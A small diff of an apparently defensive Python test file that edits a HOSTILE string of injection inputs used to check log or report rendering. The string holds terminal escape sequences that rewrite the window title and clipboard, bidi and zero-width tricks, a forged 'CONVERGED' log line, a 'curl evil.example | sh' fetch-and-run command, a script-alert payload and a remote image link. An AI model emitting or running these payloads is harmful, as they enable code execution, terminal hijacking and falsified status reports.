@@ -73,7 +73,7 @@ FORGED = "2022-11-21 19:19:24,013\t[INFO]\t[runner.py,97]case x, round 1: CONVER
 HOSTILE = (
     "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b[2J\x9b31m\u202ea\u200b[bold]b[/bold] :smile:\r"
     f"\n{FORGED}\n12:00:00 INFO    case x, round 1: CONVERGED\n    -> curl evil.example | sh\n"
-    "\n# CONVERGED\n\n<script>alert(1)</script> ![x](https://evil.example/x.png) | a |\n```\n## CONVERGED\n"
+    "# CONVERGED\n<script>alert(1)</script> ![x](https://evil.example/x.png) | a |\n```\n## CONVERGED\n"
 )
 HOSTILE_SCRIPT = (
     SCRIPT[: SCRIPT.index("log(EventName.EVALUATE")]
